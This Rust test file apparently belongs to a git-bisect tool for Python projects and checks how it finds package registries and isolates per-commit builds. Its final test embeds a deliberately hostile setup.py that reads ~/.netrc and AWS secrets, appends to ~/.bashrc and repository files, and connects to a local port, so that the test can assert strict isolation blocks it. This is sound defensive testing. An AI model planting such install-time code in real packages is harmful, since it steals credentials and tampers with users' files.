//! `find --env auto` with registries of the user's own, and with a history that means harm.

use std::fs;
use std::io::ErrorKind;
use std::net::TcpListener;
use std::process::Command;

use serde_json::Value;

use crate::support::registry::{Registry, Served};
use crate::support::repo_builder::snapshot;
use crate::support::{TestRepo, User, culprit, report_of, sandbox};

/// A user for whom environments can be made; says so when they cannot.
#[expect(clippy::print_stdout, reason = "a test that passes by says why")]
fn user_with_environments() -> Option<User> {
    if which::which("uv").is_err() {
        println!("not tested: there is no uv");
        return None;
    }
    Some(User::new())
}

/// A registry with one package, of which no upload time is known.
fn undated() -> Served {
    let mut registry = Registry::new();
    for (version, word) in [("1.0", "hi"), ("2.0", "hello")] {
        registry.release("greeting", version, "", "", &format!("word = '{word}'\n"));
    }
    registry.serve()
}

/// Lets builds through to hosts that no registry of the user's is on.
const ALLOWED: &str = "PYBISECT_BUILD_HOSTS";

/// Six commits, of which the fourth breaks; all have these files too.
fn history(files: &[(&str, &str)]) -> (TestRepo, Vec<String>) {
    let mut repo = TestRepo::new();
    for (path, text) in files {
        repo.write(path, text);
    }
    let app = |n: usize| format!("import greeting\nassert {n} < 3, greeting.word\n");
    let ids = (0..6).map(|n| repo.write("app.py", app(n)).commit("edit").to_string()).collect();
    (repo, ids)
}

/// pybisect with uv's own settings out of the way, and this machine's pip's too.
fn command(user: &User, repo: &TestRepo, env: &str, options: &[&str]) -> Command {
    let mut all = vec!["find", "--json", "-", "--env", env, "--no-narrow"];
    all.extend_from_slice(options);
    all.extend_from_slice(&["--", "python", "app.py"]);
    let mut command = user.command(repo.path(), &all);
    command.env("NO_PROXY", "127.0.0.1").env_remove("VIRTUAL_ENV");
    command
}

fn packages(report: &Value) -> Vec<&str> {
    let environments = report["environments"].as_array().unwrap().iter();
    environments.flat_map(|one| one["packages"].as_array().unwrap()).filter_map(Value::as_str).collect()
}

#[test]
fn a_registry_is_found_in_requirements_pipfiles_variables_and_pips_configuration() {
    let registry = undated();
    let url = registry.url();
    let listed = format!("--index-url {url}\ngreeting<2\n");
    let pipfile =
        format!("[[source]]\nurl = '{url}'\nname = 'own'\nverify_ssl = false\n[packages]\ngreeting = '<2'\n");
    let plain = "greeting<2\n";
    let cases = [
        // What a commit names on this machine is for the user to allow.
        ("auto", "requirements.txt", listed.as_str(), ALLOWED, ""),
        ("auto", "Pipfile", &pipfile, ALLOWED, ""),
        ("auto", "requirements.txt", plain, "UV_INDEX_URL", ""),
        ("auto", "requirements.txt", plain, "PIP_INDEX_URL", ""),
        ("auto", "requirements.txt", plain, "", "pip.conf"),
        ("pip", "requirements.txt", plain, "", "pip.conf"),
    ];
    for (env, file, text, variable, configuration) in cases {
        let Some(user) = user_with_environments() else { return };
        let (repo, ids) = history(&[(file, text)]);
        let mut command = command(&user, &repo, env, &["--good", &ids[0]]);
        if !variable.is_empty() {
            let place = url.trim_start_matches("http://").trim_end_matches("/simple");
            command.env(variable, if variable == ALLOWED { place } else { &url });
        }
        if !configuration.is_empty() {
            let folder = user.home().join(".config/pip");
            fs::create_dir_all(&folder).unwrap();
            fs::write(folder.join(configuration), format!("[global]\nindex-url = {url}\n")).unwrap();
        }
        let case = format!("{env} {file} {variable} {configuration}");
        let (code, report) = report_of(&mut command);
        assert_eq!((code, culprit(&report)), (Some(0), ids[3].as_str()), "{case}: {report:#}");
        assert!(packages(&report).contains(&"greeting==1.0"), "{case}: {report:#}");
        let notes = report["notes"].to_string() + &report["environments"].to_string();
        assert!(notes.contains("does not say when its files were uploaded"), "{case}: {report:#}");
    }
}

#[test]
fn a_registry_on_this_machine_that_only_a_commit_names_is_not_reached() {
    let Some(user) = user_with_environments() else { return };
    let registry = undated();
    let (repo, ids) =
        history(&[("requirements.txt", &format!("--index-url {}\ngreeting<2\n", registry.url()))]);
    let (code, report) = report_of(&mut command(&user, &repo, "auto", &["--good", &ids[0]]));
    assert_eq!(code, Some(5), "{report:#}");
    let reason = report["reason"].as_str().unwrap();
    assert!(reason.contains("(to let it: PYBISECT_BUILD_HOSTS=127.0.0.1:"), "{report:#}");
}

/// A setup script runs with the packages of the commit, and what it makes is there for the command.
#[test]
fn a_setup_runs_in_the_environment_of_the_commit() {
    let Some(user) = user_with_environments() else { return };
    let registry = undated();
    let mut repo = TestRepo::new();
    repo.write("requirements.txt", "greeting\n");
    let ids: Vec<String> = (0..6)
        .map(|n| {
            let text = format!("from made import word\nassert {n} < 3 or word != 'hello', word\n");
            repo.write("app.py", text).commit("edit").to_string()
        })
        .collect();
    let setup = "python -c \"import greeting; open('made.py', 'w').write('word = %r' % greeting.word)\"";
    let mut command = command(&user, &repo, "auto", &["--good", &ids[0], "--setup", setup]);
    command.envs(registry.variables());
    let (code, report) = report_of(&mut command);
    assert_eq!((code, culprit(&report)), (Some(0), ids[3].as_str()), "{report:#}");
}

/// It declares what it could steal, so that it cannot be overlooked.
const SETUP_PY: &str = r#"
import os, socket
from setuptools import setup
home, outside, port = "@HOME@", "@OUTSIDE@", @PORT@
stolen = []
try:
    stolen.append("stolen-" + open(home + "/.netrc").read().strip())
except OSError:
    pass
if "AWS_SECRET_ACCESS_KEY" in os.environ:
    stolen.append("stolen-variable")
for path in home + "/.bashrc", outside + "/written", "@REPO@/app.py":
    try:
        with open(path, "a") as file:
            file.write("mine")
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", port), 5)
except OSError:
    pass
setup(name="demo", version="1", install_requires=["greeting"] + stolen)
"#;

#[test]
fn a_hostile_setup_py_declares_and_does_nothing_else() {
    if sandbox::parts().is_none() {
        return;
    }
    let Some(user) = user_with_environments() else { return };
    fs::write(user.home().join(".netrc"), "secret\n").unwrap();
    fs::write(user.home().join(".bashrc"), "alias ll='ls -l'\n").unwrap();
    let outside = tempfile::tempdir().unwrap();
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    server.set_nonblocking(true).unwrap();
    let mut repo = TestRepo::new();
    let text = SETUP_PY
        .replace("@HOME@", user.home().to_str().unwrap())
        .replace("@OUTSIDE@", outside.path().to_str().unwrap())
        .replace("@REPO@", repo.path().to_str().unwrap())
        .replace("@PORT@", &server.local_addr().unwrap().port().to_string());
    repo.write("setup.py", text);
    let app = |n: usize| format!("import greeting\nassert {n} < 3\n");
    let ids: Vec<String> = (0..6).map(|n| repo.write("app.py", app(n)).commit("edit").to_string()).collect();
    repo.check_out();
    let before = snapshot(repo.path());
    let registry = undated();
    let mut command = command(&user, &repo, "auto", &["--good", &ids[0], "--isolation", "strict"]);
    command.envs(registry.variables()).env("AWS_SECRET_ACCESS_KEY", "x");
    let (code, report) = report_of(&mut command);
    assert_eq!((code, culprit(&report)), (Some(0), ids[3].as_str()), "{report:#}");
    assert!(packages(&report).contains(&"greeting==2.0"), "{report:#}");
    assert!(snapshot(repo.path()) == before, "the repository changed");
    assert_eq!(fs::read_to_string(user.home().join(".bashrc")).unwrap(), "alias ll='ls -l'\n");
    assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 0, "it wrote outside");
    assert_eq!(server.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "it reached a server");
}
